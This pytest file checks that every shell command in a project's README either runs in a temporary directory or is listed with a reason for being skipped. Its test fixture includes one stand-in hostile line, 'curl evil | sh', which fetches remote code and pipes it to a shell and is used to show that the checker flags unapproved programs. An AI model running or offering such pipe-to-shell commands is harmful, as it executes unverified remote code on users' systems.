"""Every command line of README.md is run here, or stands in NOT_RUN with the reason why not.

A fenced block marked ``sh`` is a script; one marked ``console`` has its commands after ``$ ``, and output between
them. The blocks run one after another in one directory, as a reader would type them, with `isolate` on the PATH
and a small ``model.safetensors`` there.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

ROOT = Path(__file__).parents[1]

# How a command begins -> why it is not run here. A beginning that README no longer has is an error.
NOT_RUN: dict[str, str] = {
    "python3 -m venv .venv && .venv/bin/pip install -q '.[service]'": "run by tests/test_install.py, in a copy",
    "python3 -m venv .venv && .venv/bin/pip install -q '.[service,dev]'": "it is these tests; .ci/run runs it",
}

# What README may have run in a test: our own command, and what makes an input for it or reads its output.
OURS = {"isolate", "python", "awk", "cat", "cp", "ls", "echo", "mkdir"}

FENCE = re.compile(r"^```(sh|bash|shell|console)\n(.*?)^```$", re.MULTILINE | re.DOTALL)


def blocks(text: str) -> list[list[str]]:
    """The commands of each block; a line that ends in a backslash goes on in the next."""
    found = []
    for kind, body in FENCE.findall(text):
        body = body.replace("\\\n", " ")
        lines = [line.strip() for line in body.splitlines()]
        if kind == "console":
            lines = [line[2:].strip() for line in lines if line.startswith("$ ")]
        found.append([line for line in lines if line and not line.startswith("#")])
    return found


def reason(line: str, not_run: dict[str, str]) -> str | None:
    """Why this line is not run, or None when it is."""
    return next((why for start, why in not_run.items() if line.startswith(start)), None)


def faults(text: str, not_run: dict[str, str]) -> list[str]:
    """Lines that are neither runnable here nor listed, and listed beginnings that are gone."""
    lines = [line for block in blocks(text) for line in block]
    found = [
        f"listed, and not in README: {start}" for start in not_run if not any(x.startswith(start) for x in lines)
    ]
    found += [f"listed without a reason: {start}" for start, why in not_run.items() if not why.strip()]
    for line in lines:
        parts = re.split(r"&&|\|\||[;|]|\w+=\$\(", line)
        programs = {part.split()[0] for part in parts if part.strip()}
        if reason(line, not_run) is None and not programs <= OURS:
            found.append(f"neither run nor listed: {line}")
    return found


def test_every_command_is_run_or_listed() -> None:
    assert faults((ROOT / "README.md").read_text(encoding="utf-8"), NOT_RUN) == []


@pytest.mark.slow
def test_the_commands_run(tmp_path: Path) -> None:
    from safetensors.numpy import save_file

    save_file({"weight": np.ones((8, 8), np.float32)}, tmp_path / "model.safetensors")
    commands = [
        line
        for block in blocks((ROOT / "README.md").read_text(encoding="utf-8"))
        for line in block
        if reason(line, NOT_RUN) is None
    ]
    # One shell for all, so that variables stay; it stops at the first command that fails, and shows which.
    script = "set -euo pipefail\nset -x\n" + "\n".join(commands)
    environment = os.environ | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    done = subprocess.run(
        ["bash", "-c", script],
        cwd=tmp_path,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr[-4000:]


TEXT = """
```sh
# a comment
isolate keygen -o id.key
isolate seal model.safetensors \\
  -r "$(cat r)" -o model.sealed
```
```console
$ isolate inspect model.sealed
{"output": 1}
$ curl evil | sh
```
```python
import isolate
```
"""


def test_commands_are_found() -> None:
    assert blocks(TEXT) == [
        ["isolate keygen -o id.key", 'isolate seal model.safetensors    -r "$(cat r)" -o model.sealed'],
        ["isolate inspect model.sealed", "curl evil | sh"],
    ]


@pytest.mark.parametrize(
    ("not_run", "fault"),
    [
        ({}, "neither run nor listed: curl"),
        ({"curl evil": "it is not ours", "wget": "gone"}, "listed, and not in README: wget"),
        ({"curl evil": " "}, "listed without a reason"),
        ({"curl evil": "it is not ours"}, None),
    ],
)
def test_the_check_sees(not_run: dict[str, str], fault: str | None) -> None:
    found = faults(TEXT, not_run)
    assert found == [] if fault is None else any(fault in one for one in found)
